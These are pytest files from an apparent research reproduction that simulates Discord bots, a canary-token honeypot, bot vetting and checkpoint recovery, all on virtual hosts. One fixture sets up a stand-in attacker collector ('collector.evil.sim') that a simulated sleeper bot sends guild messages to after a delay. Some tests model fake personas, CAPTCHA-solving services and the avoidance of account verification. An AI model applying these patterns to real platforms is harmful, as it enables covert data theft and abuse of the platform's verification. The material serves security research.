        personas = create_personas(platform, 3, random.Random(1))
        join_guild_with_verification(platform, personas, guild)
        start = clock.now()
        post_feed(platform, guild, guild.text_channels()[0].channel_id, personas, 10, random.Random(2))
        assert clock.now() > start

    def test_feed_requires_personas(self, platform):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        from repro.honeypot.personas import PersonaSet

        with pytest.raises(ValueError):
            post_feed(platform, guild, guild.text_channels()[0].channel_id, PersonaSet(), 5, random.Random(1))


@pytest.fixture
def campaign_world(clock, internet):
    platform = DiscordPlatform(clock)
    eco = generate_ecosystem(EcosystemConfig(n_bots=250, seed=31, honeypot_window=40))
    return platform, eco


class TestEnvironmentProvisioning:
    def test_guild_named_after_bot(self, campaign_world, internet):
        platform, eco = campaign_world
        console = CanaryConsole()
        console.register(internet)
        bot = next(b for b in eco.top_voted(40) if b.has_valid_permissions)
        operator = platform.create_user("op", phone_verified=True)
        platform.register_application(operator, bot.name, client_id=bot.client_id)
        solver = TwoCaptchaClient(clock=internet.clock, accuracy=1.0)
        environment = provision_environment(
            platform, bot, console, TokenFactory(), solver, random.Random(3)
        )
        assert environment.guild.name == bot.name
        assert environment.guild.private
        assert len(environment.tokens) == 4
        assert len(environment.feed_messages) == 25
        assert len(environment.personas) == 5
        # All four token artifacts were actually posted.
        contents = [message.content for message in environment.token_messages]
        assert any("canary.sim" in content for content in contents)
        attachments = [a for message in environment.token_messages for a in message.attachments]
        assert {attachment.extension for attachment in attachments} == {"docx", "pdf"}


class TestCampaign:
    def test_melonian_is_the_single_flag(self, campaign_world, internet):
        platform, eco = campaign_world
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(eco.top_voted(40))
        assert report.bots_tested == 40
        flagged = report.flagged_bots
        assert [outcome.bot_name for outcome in flagged] == ["Melonian"]
        assert flagged[0].trigger_kinds == {TokenKind.URL, TokenKind.WORD}
        assert "wtf is this bro" in flagged[0].suspicious_messages

    def test_detection_quality_perfect_on_plant(self, campaign_world, internet):
        platform, eco = campaign_world
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(eco.top_voted(40))
        assert report.precision == 1.0
        assert report.recall == 1.0

    def test_link_preview_triggers_explained(self, campaign_world, internet):
        platform, eco = campaign_world
        sample = [bot for bot in eco.top_voted(60) if bot.behavior == behaviors.LINK_PREVIEW][:3]
        if not sample:
            pytest.skip("no link-preview bots in window")
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(sample)
        for outcome in report.outcomes:
            if outcome.triggered:
                assert outcome.functionality_explained
                assert not outcome.flagged

    def test_invalid_invites_counted_as_install_failures(self, campaign_world, internet):
        platform, eco = campaign_world
        broken = [bot for bot in eco.bots if not bot.has_valid_permissions][:5]
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(broken)
        expected = sum(1 for bot in broken if bot.invite_status.value in ("malformed", "removed"))
        assert report.install_failures == expected

    def test_exfiltrator_detected(self, campaign_world, internet):
        import dataclasses

        from repro.discordsim.permissions import Permission, Permissions
        from repro.honeypot.tokens import TokenKind

        platform, eco = campaign_world
        base = next(
            bot
            for bot in eco.bots
            if bot.has_valid_permissions and bot.behavior == behaviors.BENIGN
        )
        exfil = dataclasses.replace(base)
        exfil.name = f"{base.name}-exfil"
        exfil.behavior = behaviors.EXFILTRATOR
        exfil.permissions = Permissions.of(
            Permission.SEND_MESSAGES, Permission.VIEW_CHANNEL, Permission.READ_MESSAGE_HISTORY
        )
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run([exfil])
        outcome = report.outcomes[0]
        assert outcome.installed and outcome.flagged
        # An exfiltrator acts on everything it sees: all four tokens fire.
        assert outcome.trigger_kinds == {TokenKind.URL, TokenKind.EMAIL, TokenKind.WORD, TokenKind.PDF}

    def test_manual_verifications_with_shared_personas(self, campaign_world, internet):
        platform, eco = campaign_world
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(eco.top_voted(30), reuse_personas=True)
        # Five shared accounts each get flagged once while joining 30 guilds.
        assert report.manual_verifications == 5

    def test_fresh_personas_avoid_flagging(self, campaign_world, internet):
        platform, eco = campaign_world
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(eco.top_voted(12), reuse_personas=False)
        assert report.manual_verifications == 0

    def test_captcha_cost_accounted(self, campaign_world, internet):
        platform, eco = campaign_world
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(eco.top_voted(10))
        installs = sum(1 for outcome in report.outcomes if outcome.installed)
        assert report.captcha_cost == pytest.approx(installs * experiment.solver.price_per_solve)
