"""Tests for extension features: sleeper behaviour, scopes end-to-end,
report sections, and pipeline-level risk."""

import pytest

from repro.discordsim import behaviors
from repro.discordsim.models import Attachment
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.web.captcha import TwoCaptchaClient
from repro.web.http import Response
from repro.web.server import VirtualHost


def _install(platform, owner, guild, name="Bot", permissions=None):
    developer = platform.create_user(f"dev-{name}", phone_verified=True)
    application = platform.register_application(developer, name)
    url = build_invite_url(application.client_id, permissions or Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(platform.clock, accuracy=1.0).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return application


class TestSleeperBehavior:
    @pytest.fixture
    def sleeper_world(self, platform, internet):
        collected = []
        collector = VirtualHost("evil")
        collector.add_route(
            "/collect", lambda request: (collected.append(request.url.query), Response.text("ok"))[1]
        )
        internet.register("collector.evil.sim", collector)
        owner = platform.create_user("owner", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        application = _install(platform, owner, guild, "SleepyBot")
        runtime = behaviors.build_runtime(
            platform, application.bot_user.user_id, behaviors.SLEEPER, internet=internet
        )
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "company secrets")
        return platform, runtime, collected

    def test_dormant_before_wake(self, sleeper_world):
        platform, runtime, collected = sleeper_world
        platform.clock.sleep(3600.0)  # one hour: far from the wake point
        runtime.tick()
        assert collected == []

    def test_wakes_and_sweeps_after_delay(self, sleeper_world):
        platform, runtime, collected = sleeper_world
        platform.clock.sleep(behaviors.SLEEPER_WAKE_AFTER + 1.0)
        runtime.tick()
        assert any("company" in chunk for chunk in collected)

    def test_sweep_happens_once_per_guild(self, sleeper_world):
        platform, runtime, collected = sleeper_world
        platform.clock.sleep(behaviors.SLEEPER_WAKE_AFTER + 1.0)
        runtime.tick()
        first = len(collected)
        runtime.tick()
        assert len(collected) == first

    def test_sleeper_is_invasive_ground_truth(self):
        assert behaviors.SLEEPER in behaviors.INVASIVE_BEHAVIORS


class TestScopesEndToEnd:
    def test_scraped_scopes_match_ground_truth(self, pipeline_result):
        # Every active bot carries at least the 'bot' scope, read off the page.
        active = pipeline_result.crawl.with_valid_permissions()
        assert active
        for bot in active[:50]:
            assert "bot" in bot.scope_names

    def test_scope_distribution_in_expected_range(self, pipeline_result):
        dist = pipeline_result.permission_distribution
        assert dist.scope_percent("bot") == pytest.approx(100.0)
        commands = dist.scope_percent("applications.commands")
        assert 35.0 < commands < 75.0  # target 55%, small-sample tolerance
        assert dist.scope_percent("email") < 12.0

    def test_extra_scope_series_excludes_bot(self, pipeline_result):
        series = pipeline_result.permission_distribution.extra_scope_series()
        assert all(scope != "bot" for scope, _ in series)
        percents = [percent for _, percent in series]
        assert percents == sorted(percents, reverse=True)


class TestReportSections:
    def test_report_includes_scope_table(self, pipeline_result):
        from repro.core.report import render_full_report

        report = render_full_report(pipeline_result)
        assert "Additional scopes requested beyond 'bot'" in report
        assert "applications.commands" in report

    def test_summary_mentions_risk(self, pipeline_result):
        text = "\n".join(pipeline_result.summary_lines())
        assert "permission risk" in text
        assert "over-privilege" in text


class TestPipelineRisk:
    def test_risk_summary_populated(self, pipeline_result):
        risk = pipeline_result.risk_summary
        assert risk is not None
        assert len(risk.scores) == pipeline_result.active_bots
        # Admin cohort (~55%) dominates the high-risk share.
        assert 0.4 < risk.high_risk_fraction < 0.7
        assert 0.0 < risk.mean_over_privilege <= 1.0

    def test_percentiles_ordered(self, pipeline_result):
        risk = pipeline_result.risk_summary
        quartiles = [risk.percentile(q) for q in (0, 25, 50, 75, 100)]
        assert quartiles == sorted(quartiles)
