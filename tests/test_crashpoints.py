"""Unit tests for the crash-point registry and injection plumbing."""

from __future__ import annotations

import pytest

from repro.core import crashpoints
from repro.core.crashpoints import (
    REGISTRY,
    UnknownCrashPointError,
    crashpoint,
    hits,
    parse_arm,
    read_fired,
    reset,
    set_handler,
)


@pytest.fixture(autouse=True)
def clean_state():
    reset()
    yield
    reset()


def test_registry_names_are_unique_and_namespaced() -> None:
    assert len(REGISTRY) == len(set(REGISTRY))
    assert all("." in name for name in REGISTRY)


def test_unknown_name_raises() -> None:
    with pytest.raises(UnknownCrashPointError):
        crashpoint("not.registered")


def test_parse_arm_defaults_to_first_occurrence() -> None:
    assert parse_arm("crawl.after_page") == ("crawl.after_page", 1)
    assert parse_arm("crawl.after_page:4") == ("crawl.after_page", 4)


def test_handler_sees_name_and_count() -> None:
    seen: list[tuple[str, int]] = []
    set_handler(lambda name, count: seen.append((name, count)))
    crashpoint("crawl.after_page")
    crashpoint("crawl.after_page")
    crashpoint("run.before_result")
    assert seen == [("crawl.after_page", 1), ("crawl.after_page", 2), ("run.before_result", 1)]
    assert hits() == {"crawl.after_page": 2, "run.before_result": 1}


def test_handler_suppresses_env_arming(monkeypatch) -> None:
    monkeypatch.setenv(crashpoints.ENV_CRASH_AT, "crawl.after_page")
    set_handler(lambda name, count: None)
    crashpoint("crawl.after_page")  # would os._exit(137) without the handler


def test_reset_clears_hits_and_handler(monkeypatch) -> None:
    set_handler(lambda name, count: None)
    crashpoint("crawl.after_page")
    reset()
    assert hits() == {}
    # Handler gone: with nothing armed, a hit is a no-op.
    monkeypatch.delenv(crashpoints.ENV_CRASH_AT, raising=False)
    crashpoint("crawl.after_page")
    assert hits() == {"crawl.after_page": 1}


def test_record_env_appends_one_line_per_hit(tmp_path, monkeypatch) -> None:
    record = tmp_path / "fired.txt"
    monkeypatch.setenv(crashpoints.ENV_RECORD, str(record))
    monkeypatch.delenv(crashpoints.ENV_CRASH_AT, raising=False)
    crashpoint("crawl.after_page")
    crashpoint("crawl.after_page")
    crashpoint("run.before_result")
    assert read_fired(record) == {"crawl.after_page": 2, "run.before_result": 1}


def test_read_fired_missing_file_is_empty(tmp_path) -> None:
    assert read_fired(tmp_path / "absent.txt") == {}
