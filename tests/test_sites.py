"""Tests for the virtual sites: listing site, discord.sim, github.sim, bot websites."""

import pytest

from repro.botstore import PAGE_SIZE, ListingStore, TopGGSite, build_store_host
from repro.botstore.host import StoreDefenses
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.ecosystem.repos import RepoKind
from repro.sites.botwebsites import BotWebsiteBuilder, variant_for
from repro.sites.discordweb import DiscordWebsite
from repro.sites.github import GitHubSite
from repro.web.client import HttpClient, RequestTimeoutError
from repro.web.dom import parse_html


@pytest.fixture(scope="module")
def eco():
    return generate_ecosystem(EcosystemConfig(n_bots=200, seed=13, honeypot_window=40))


@pytest.fixture
def world(eco, internet):
    build_store_host(eco, internet, StoreDefenses(captcha_enabled=False, rate_limit_requests=10_000))
    DiscordWebsite(eco).register(internet)
    GitHubSite(eco).register(internet)
    BotWebsiteBuilder(eco).register(internet)
    return eco, internet, HttpClient(internet, default_timeout=10.0)


class TestListingSite:
    def test_pagination_covers_population(self, world):
        eco, internet, client = world
        store = ListingStore(eco)
        pages = store.page_count(PAGE_SIZE)
        seen = sum(len(store.page(page, PAGE_SIZE)) for page in range(1, pages + 1))
        assert seen == len(eco.bots)

    def test_list_page_renders_cards(self, world):
        eco, internet, client = world
        page = parse_html(client.get("https://top.gg.sim/list/top?page=1").body)
        cards = page.select("a.bot-link") or page.select("a[data-bot-id]")
        assert len(cards) == PAGE_SIZE

    def test_page_structure_variants_alternate(self, world):
        eco, internet, client = world
        page1 = parse_html(client.get("https://top.gg.sim/list/top?page=1").body)
        page2 = parse_html(client.get("https://top.gg.sim/list/top?page=2").body)
        assert page1.select_one("#bot-list").get("data-variant") == "A"
        assert page2.select_one("#bot-list").get("data-variant") == "B"
        assert page1.select("a.bot-link") and not page1.select("a[data-bot-id]")
        assert page2.select("a[data-bot-id]") and not page2.select("a.bot-link")

    def test_past_the_end_404(self, world):
        eco, internet, client = world
        assert client.get("https://top.gg.sim/list/top?page=99").status == 404

    def test_detail_page_fields(self, world):
        eco, internet, client = world
        bot = eco.bots[0]
        page = parse_html(client.get(f"https://top.gg.sim/bot/{bot.index}").body)
        assert page.select_one("h1.bot-title").text == bot.name
        assert page.select_one("span.dev-tag").text == bot.developer_tag
        tags = {node.text for node in page.select("span.tag")}
        assert tags == set(bot.tags)

    def test_detail_variant_by_parity(self, world):
        eco, internet, client = world
        even = parse_html(client.get("https://top.gg.sim/bot/0").body)
        odd = parse_html(client.get("https://top.gg.sim/bot/1").body)
        assert even.select_one(".bot-detail").get("data-variant") == "A"
        assert odd.select_one(".bot-detail").get("data-variant") == "B"
        assert even.select_one("#invite-button") is not None
        assert odd.select_one("a.invite-link") is not None

    def test_unknown_bot_404(self, world):
        eco, internet, client = world
        assert client.get("https://top.gg.sim/bot/999999").status == 404


class TestDiscordWeb:
    def test_valid_invite_renders_consent(self, world):
        eco, internet, client = world
        bot = eco.with_valid_permissions()[0]
        page = parse_html(client.get(bot.invite_url).body)
        names = [node.text for node in page.select("li.permission-item")]
        assert names == bot.permissions.display_names()

    def test_removed_bot_404(self, world):
        eco, internet, client = world
        removed = [bot for bot in eco.bots if bot.invite_status is InviteStatus.REMOVED][0]
        response = client.get(removed.invite_url)
        assert response.status == 404
        assert "Unknown Application" in response.body

    def test_malformed_invite_400(self, world):
        eco, internet, client = world
        malformed = [bot for bot in eco.bots if bot.invite_status is InviteStatus.MALFORMED][0]
        assert client.get(malformed.invite_url).status == 400

    def test_slow_redirect_times_out(self, world):
        eco, internet, client = world
        slow = [bot for bot in eco.bots if bot.invite_status is InviteStatus.SLOW_REDIRECT][0]
        with pytest.raises(RequestTimeoutError):
            client.get(slow.invite_url, timeout=10.0)


class TestGitHubSite:
    def test_valid_repo_has_code_section_and_language(self, world):
        eco, internet, client = world
        bot = next(b for b in eco.bots if b.github and b.github.kind is RepoKind.VALID_CODE)
        page = parse_html(client.get(bot.github_url).body)
        assert page.select_one("#code-section") is not None
        first_language = page.select("span.language-name")[0].text
        assert first_language == bot.github.language

    def test_raw_file_download(self, world):
        eco, internet, client = world
        bot = next(b for b in eco.bots if b.github and b.github.kind is RepoKind.VALID_CODE)
        path, content = next(iter(bot.github.files.items()))
        raw = client.get(f"{bot.github_url}/raw/main/{path}")
        assert raw.status == 200
        assert raw.body == content

    def test_readme_only_repo_valid_but_no_language(self, world):
        eco, internet, client = world
        bot = next((b for b in eco.bots if b.github and b.github.kind is RepoKind.README_ONLY), None)
        if bot is None:
            pytest.skip("no readme-only repo in this sample")
        page = parse_html(client.get(bot.github_url).body)
        assert page.select_one("#code-section") is not None
        assert page.select("span.language-name") == []

    def test_profile_page_has_no_code_section(self, world):
        eco, internet, client = world
        bot = next(
            (b for b in eco.bots if b.github and b.github.kind is RepoKind.USER_PROFILE), None
        )
        if bot is None:
            pytest.skip("no user-profile link in this sample")
        page = parse_html(client.get(bot.github_url).body)
        assert page.select_one("#code-section") is None

    def test_dead_link_404(self, world):
        eco, internet, client = world
        bot = next((b for b in eco.bots if b.github and b.github.kind is RepoKind.INVALID_LINK), None)
        if bot is None:
            pytest.skip("no dead link in this sample")
        assert client.get(bot.github_url).status == 404


class TestBotWebsites:
    def test_homepage_has_invite(self, world):
        eco, internet, client = world
        bot = eco.websites()[0]
        page = parse_html(client.get(bot.website_url).body)
        assert page.select_one("#invite").get("href") == bot.invite_url

    def test_policy_reachable_through_variant(self, world):
        eco, internet, client = world
        with_policy = [bot for bot in eco.websites() if bot.policy.present and bot.policy.link_valid]
        assert with_policy, "sample should contain policies"
        for bot in with_policy[:5]:
            variant = variant_for(bot)
            home = parse_html(client.get(bot.website_url).body)
            if variant == "legal":
                legal = parse_html(client.get(f"{bot.website_url}legal").body)
                href = legal.select_one("a.legal-link").get("href")
            else:
                anchor = home.select_one("a.nav-link, a.footer-link")
                href = anchor.get("href")
            policy = client.get(f"https://{bot.website_host}{href}")
            assert policy.status == 200
            assert "policy" in policy.body.lower() or "privacy" in policy.body.lower()

    def test_no_policy_link_when_absent(self, world):
        eco, internet, client = world
        without = next(bot for bot in eco.websites() if not bot.policy.present)
        home = parse_html(client.get(bot_url := without.website_url).body)
        assert home.select_one("a.nav-link, a.footer-link") is None

    def test_dead_policy_page_404(self, eco, internet):
        """A bot advertising a policy whose page 404s (the 3-of-676 case)."""
        import dataclasses

        from repro.ecosystem.policies import PolicySpec
        from repro.web.client import HttpClient

        base = next(bot for bot in eco.websites())
        dead = dataclasses.replace(base)
        dead.website_host = "deadpolicy.botsite.sim"
        dead.policy = PolicySpec(present=True, categories=frozenset({"use"}), link_valid=False)
        dead.policy_text = ""

        from repro.sites.botwebsites import _build_site

        internet.register(dead.website_host, _build_site(dead))
        client = HttpClient(internet)
        variant = variant_for(dead)
        path = {"nav": "/privacy", "footer": "/privacy-policy", "legal": "/legal/privacy"}[variant]
        # The link is advertised on the homepage but the page is gone.
        home = client.get(f"https://{dead.website_host}/")
        assert home.status == 200
        assert client.get(f"https://{dead.website_host}{path}").status == 404
