"""End-to-end governance lifecycle: the mitigations working together.

A marketplace vets submissions; approved bots get installed into a guild;
the guild owner audits them with Guardian; the ecosystem then drifts for an
epoch and the longitudinal detector finds the silent escalations, feeding a
re-vetting pass.  This is the "continuous rigorous vetting" loop the paper
recommends, exercised as one story.
"""

import dataclasses

import pytest

from repro.analysis.longitudinal import compare_snapshots
from repro.core.guardian import GuildGuardian
from repro.core.vetting import VettingPipeline, VettingPolicy
from repro.discordsim.behaviors import BENIGN, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.evolution import EvolutionConfig, evolve_ecosystem
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.ecosystem.policies import PolicySpec
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture(scope="module")
def lifecycle():
    """Run the whole story once; individual tests assert its stages."""
    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=500, seed=101, honeypot_window=50))

    # --- Stage 1: vetting gate over the active population (static). -------
    pipeline = VettingPipeline(VettingPolicy(run_dynamic_review=False))
    active = [bot for bot in ecosystem.bots if bot.has_valid_permissions]
    vetting = pipeline.vet_population(active)
    approved_names = {verdict.bot_name for verdict in vetting.approved}
    approved = [bot for bot in active if bot.name in approved_names]

    # --- Stage 2: a guild owner installs a few approved bots. -------------
    platform = DiscordPlatform(captcha_seed=101)
    solver = TwoCaptchaClient(platform.clock, accuracy=1.0, seed=101)
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "governed-guild")
    guardian = GuildGuardian(platform)
    installed = []
    for bot in approved[:5]:
        developer = platform.create_user(f"dev-{bot.name}"[:28], phone_verified=True)
        application = platform.register_application(developer, bot.name, client_id=bot.client_id)
        url = build_invite_url(application.client_id, bot.permissions)
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        platform.complete_install(
            owner.user_id, guild.guild_id, url, screen.captcha_challenge_id,
            solver.solve(screen.captcha_prompt),
        )
        runtime = build_runtime(platform, application.bot_user.user_id, BENIGN)
        guardian.register_api_client(runtime.api)
        installed.append(bot)

    audit = guardian.audit_guild(guild.guild_id)

    # --- Stage 3: the ecosystem drifts one epoch. --------------------------
    evolved, log = evolve_ecosystem(
        ecosystem, EvolutionConfig(permission_escalation_rate=0.08), seed=202
    )
    delta = compare_snapshots(ecosystem, evolved)

    # --- Stage 4: continuous vetting — re-review the escalated bots. ------
    escalated_names = {record.bot_name for record in delta.escalations}
    evolved_by_name = {bot.name: bot for bot in evolved.bots}
    revetting = pipeline.vet_population(
        [evolved_by_name[name] for name in sorted(escalated_names)]
    )
    return {
        "ecosystem": ecosystem,
        "vetting": vetting,
        "approved": approved,
        "installed": installed,
        "audit": audit,
        "delta": delta,
        "log": log,
        "revetting": revetting,
    }


class TestVettingStage:
    def test_gate_filters_hard(self, lifecycle):
        vetting = lifecycle["vetting"]
        assert len(vetting.rejected) > len(vetting.approved)

    def test_approved_bots_are_modest(self, lifecycle):
        for bot in lifecycle["approved"]:
            assert not bot.permissions.redundant_with_administrator()


class TestInstallAndAuditStage:
    def test_all_approved_installed(self, lifecycle):
        assert len(lifecycle["installed"]) == len(lifecycle["audit"].audits)

    def test_vetted_guild_has_no_admin_bots(self, lifecycle):
        for audit in lifecycle["audit"].audits:
            assert not audit.granted.is_administrator

    def test_vetted_guild_risk_is_low(self, lifecycle):
        """A guild stocked only with vetted bots carries modest risk —
        the mitigation's payoff, quantified."""
        audits = lifecycle["audit"].audits
        assert audits
        assert max(audit.risk for audit in audits) < 0.5


class TestDriftStage:
    def test_escalations_detected_exactly(self, lifecycle):
        delta, log = lifecycle["delta"], lifecycle["log"]
        surviving = {name for name in log.escalated if name not in log.invites_broken}
        assert {record.bot_name for record in delta.escalations} == surviving
        assert delta.escalation_count > 0

    def test_revetting_rejects_most_escalators(self, lifecycle):
        """Permission growth is overwhelmingly unjustified growth: most
        escalated bots flunk re-review — continuous vetting has teeth."""
        revetting = lifecycle["revetting"]
        assert revetting.verdicts
        rejection_rate = len(revetting.rejected) / len(revetting.verdicts)
        assert rejection_rate > 0.6

    def test_admin_gainers_always_rejected_on_rereview(self, lifecycle):
        delta, revetting = lifecycle["delta"], lifecycle["revetting"]
        verdicts = {verdict.bot_name: verdict for verdict in revetting.verdicts}
        for name in delta.gained_administrator():
            assert not verdicts[name].approved
