"""Checkpoint integrity: corruption detection, salvage, and honest resume.

The robustness contract under test: a checkpoint file that was corrupted on
disk (bit-flip, tail truncation, partial write) must never crash
``load_or_empty`` — the bad file is sidelined to ``<name>.corrupt``, every
stage that still verifies against its own checksum is recovered, the loss
is recorded in the fault ledger, and a resumed run completes with the same
statistics an uninterrupted run produces.
"""

import json
import logging
from collections import Counter

import pytest

from repro.core.checkpoint import (
    STAGE_CODE,
    STAGE_CRAWL,
    STAGE_HONEYPOT,
    STAGE_TRACEABILITY,
    CheckpointCorruptionError,
    PipelineCheckpoint,
    _complete_truncated_json,
    _scrape_stats_from_dict,
)
from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline


def _config(**overrides) -> PipelineConfig:
    defaults = dict(n_bots=60, seed=3, honeypot_sample_size=10, validation_sample_size=20)
    defaults.update(overrides)
    return PipelineConfig(**defaults)


def _statistics(result) -> dict:
    stats = {
        "bots": result.bots_collected,
        "active": result.active_bots,
        "listing_ids": sorted(bot.listing_id for bot in result.crawl.bots),
        "trace_classes": Counter(r.classification.value for r in result.traceability_results),
        "repo_languages": Counter(a.main_language for a in result.repo_analyses),
    }
    if result.honeypot is not None:
        stats["honeypot_tested"] = result.honeypot.bots_tested
        stats["honeypot_flagged"] = sorted(o.bot_name for o in result.honeypot.flagged_bots)
    return stats


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory):
    """One fully-checkpointed reference run; tests copy its file around."""
    root = tmp_path_factory.mktemp("checkpointed")
    path = root / "pipeline.json"
    result = AssessmentPipeline(_config(checkpoint_path=str(path))).run()
    return result, path.read_bytes()


class TestChecksumVerification:
    def test_save_load_roundtrip_verifies(self, finished_run, tmp_path):
        _, blob = finished_run
        target = tmp_path / "pipeline.json"
        target.write_bytes(blob)
        checkpoint = PipelineCheckpoint.load(target)
        assert checkpoint.completed_stages == [
            STAGE_CRAWL,
            STAGE_TRACEABILITY,
            STAGE_CODE,
            STAGE_HONEYPOT,
        ]

    def test_load_rejects_silently_edited_payload(self, finished_run, tmp_path):
        _, blob = finished_run
        payload = json.loads(blob)
        payload["stages"][STAGE_CRAWL]["pages_traversed"] += 1  # silent disk corruption
        target = tmp_path / "pipeline.json"
        target.write_text(json.dumps(payload))
        with pytest.raises(CheckpointCorruptionError, match="checksum"):
            PipelineCheckpoint.load(target)

    def test_load_rejects_truncated_file(self, finished_run, tmp_path):
        _, blob = finished_run
        target = tmp_path / "pipeline.json"
        target.write_bytes(blob[: len(blob) // 2])
        with pytest.raises(CheckpointCorruptionError):
            PipelineCheckpoint.load(target)


class TestSalvage:
    def test_edited_stage_dropped_others_recovered(self, finished_run, tmp_path):
        _, blob = finished_run
        payload = json.loads(blob)
        payload["stages"][STAGE_CRAWL]["pages_traversed"] += 1
        target = tmp_path / "pipeline.json"
        target.write_text(json.dumps(payload))

        recovered = PipelineCheckpoint.load_or_empty(target)
        # The damaged stage fails its own checksum; the intact ones survive.
        assert STAGE_CRAWL not in recovered.stages
        assert recovered.completed_stages == [STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT]
        assert not target.exists()
        assert (tmp_path / "pipeline.json.corrupt").exists()
        recovery = [record for record in recovered.ledger.records if record.stage == "checkpoint"]
        assert len(recovery) == 1
        assert "pipeline.json.corrupt" in recovery[0].detail
        assert "stages recovered" in recovery[0].detail

    def test_unreadable_garbage_yields_empty_checkpoint(self, tmp_path):
        target = tmp_path / "pipeline.json"
        target.write_bytes(b"\x00\xffnot json at all")
        recovered = PipelineCheckpoint.load_or_empty(target)
        assert recovered.completed_stages == []
        assert (tmp_path / "pipeline.json.corrupt").exists()
        assert recovered.ledger.records[0].stage == "checkpoint"

    def test_missing_file_is_a_plain_fresh_checkpoint(self, tmp_path):
        recovered = PipelineCheckpoint.load_or_empty(tmp_path / "absent.json")
        assert recovered.completed_stages == []
        assert len(recovered.ledger) == 0  # nothing was lost, nothing recorded

    def test_truncation_at_any_byte_offset_never_crashes(self, finished_run, tmp_path):
        """Sweep truncation points across the whole file, including tiny ones."""
        _, blob = finished_run
        size = len(blob)
        offsets = sorted({1, 2, 10, 100, *range(size // 40, size, size // 40)})
        for offset in offsets:
            workdir = tmp_path / f"cut_{offset}"
            workdir.mkdir()
            target = workdir / "pipeline.json"
            target.write_bytes(blob[:offset])
            recovered = PipelineCheckpoint.load_or_empty(target)  # must never raise
            assert not target.exists()
            assert (workdir / "pipeline.json.corrupt").exists()
            assert any(record.stage == "checkpoint" for record in recovered.ledger.records)
            # Whatever survived must be genuinely restorable.
            for stage in recovered.completed_stages:
                assert PipelineCheckpoint._stage_round_trips(stage, recovered.stages[stage])

    def test_late_truncation_recovers_early_stages(self, finished_run, tmp_path):
        # Stage checksums are written before the big stages blob, so a cut
        # near the end of the file should still salvage the leading stages.
        _, blob = finished_run
        target = tmp_path / "pipeline.json"
        target.write_bytes(blob[: int(len(blob) * 0.9)])
        recovered = PipelineCheckpoint.load_or_empty(target)
        assert STAGE_CRAWL in recovered.stages


class TestResumeAfterCorruption:
    def test_truncated_checkpoint_resumes_to_identical_statistics(self, finished_run, tmp_path):
        reference, blob = finished_run
        path = tmp_path / "pipeline.json"
        path.write_bytes(blob[: int(len(blob) * 0.6)])

        resumed = AssessmentPipeline(_config(checkpoint_path=str(path))).run()
        assert _statistics(resumed) == _statistics(reference)
        assert (tmp_path / "pipeline.json.corrupt").exists()
        # The run is honest about the loss: the salvage landed in the ledger.
        recovery = [r for r in resumed.fault_ledger.records if r.stage == "checkpoint"]
        assert len(recovery) == 1

    def test_hopelessly_truncated_checkpoint_yields_fresh_run(self, finished_run, tmp_path):
        """Regression: a near-empty checkpoint file must never crash the run."""
        reference, blob = finished_run
        path = tmp_path / "pipeline.json"
        path.write_bytes(blob[:40])  # nothing salvageable survives

        result = AssessmentPipeline(_config(checkpoint_path=str(path))).run()
        # Every stage re-ran from scratch, none resumed.
        assert all(status in ("completed", "degraded") for status in result.stage_status.values())
        assert _statistics(result) == _statistics(reference)
        assert (tmp_path / "pipeline.json.corrupt").exists()
        # The rewritten checkpoint is whole again and verifies.
        assert PipelineCheckpoint.load(path).completed_stages


class TestTruncatedJsonRepair:
    def test_cuts_back_to_last_complete_value(self):
        text = '{"a": "x", "b": [1, 2], "c": {"d": "y", "e": "zzz'
        assert json.loads(_complete_truncated_json(text)) == {"a": "x", "b": [1, 2], "c": {"d": "y"}}

    def test_numbers_are_never_safe_cut_points(self):
        # "12" could be a prefix of 12.5e3; conservative repair refuses it.
        assert _complete_truncated_json('{"a": 12') is None

    def test_no_object_at_all(self):
        assert _complete_truncated_json("totally not json") is None

    def test_complete_document_round_trips(self):
        text = json.dumps({"a": [1, 2], "b": {"c": "d"}})
        assert json.loads(_complete_truncated_json(text)) == json.loads(text)

    def test_escaped_quotes_do_not_confuse_the_scanner(self):
        text = '{"a": "he said \\"hi\\"", "b": "tail that got cu'
        assert json.loads(_complete_truncated_json(text)) == {"a": 'he said "hi"'}


class TestScrapeStatsCompat:
    def test_unknown_keys_dropped_with_warning(self, caplog):
        with caplog.at_level(logging.WARNING, logger="repro.core.checkpoint"):
            stats = _scrape_stats_from_dict(
                {"pages_fetched": 7, "from_the_future": 1, "also_unknown": 2}
            )
        assert stats.pages_fetched == 7
        assert not hasattr(stats, "from_the_future")
        warning = "\n".join(caplog.messages)
        assert "also_unknown, from_the_future" in warning

    def test_known_keys_stay_silent(self, caplog):
        with caplog.at_level(logging.WARNING, logger="repro.core.checkpoint"):
            _scrape_stats_from_dict({"pages_fetched": 7})
        assert not caplog.messages
