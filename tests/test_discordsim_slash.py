"""Tests for slash commands and the platform-enforced permission fix."""

import pytest

from repro.discordsim.guild import PermissionDenied, UnknownEntityError
from repro.discordsim.oauth import build_invite_url
